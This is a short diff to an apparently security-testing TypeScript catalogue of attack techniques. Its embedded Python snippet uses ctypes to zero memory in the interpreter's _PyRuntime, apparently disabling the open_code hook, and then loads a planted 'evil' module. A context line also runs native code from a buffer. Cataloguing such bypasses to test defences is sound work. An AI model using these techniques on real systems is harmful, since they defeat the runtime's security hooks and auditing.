@@ -3,7 +3,7 @@
 import { copyFileSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
 import { extensionModule } from "../making.js";
 import { openCodeHookOffset } from "../native.js";
-import { type Place, since, type Technique, withData, withText } from "../technique.js";
+import { EVIL, type Place, since, type Technique, withData, withText } from "../technique.js";
 
 const native = (name: string, program: string, more: Partial<Technique> = {}) =>
 	withData(name, program, { native: true, ...more });
@@ -147,9 +147,10 @@ ctypes.CFUNCTYPE(None)(ctypes.addressof(ctypes.c_char.from_buffer(page)))()`,
 		`import ctypes
 offset = int(open(data + "/offset").read())
 ctypes.memset(ctypes.addressof(ctypes.c_char.in_dll(ctypes.pythonapi, "_PyRuntime")) + offset, 0, 8)
-sys.path.append(data)
+sys.path.append(data + "/lib")
 import evil`,
 		{
+			beside: { "lib/evil.py": EVIL },
 			// The attacker has headers of the same version.
 			arrange: ({ data, python }) => writeFileSync(`${data}/offset`, openCodeHookOffset(python, data)),
 		},
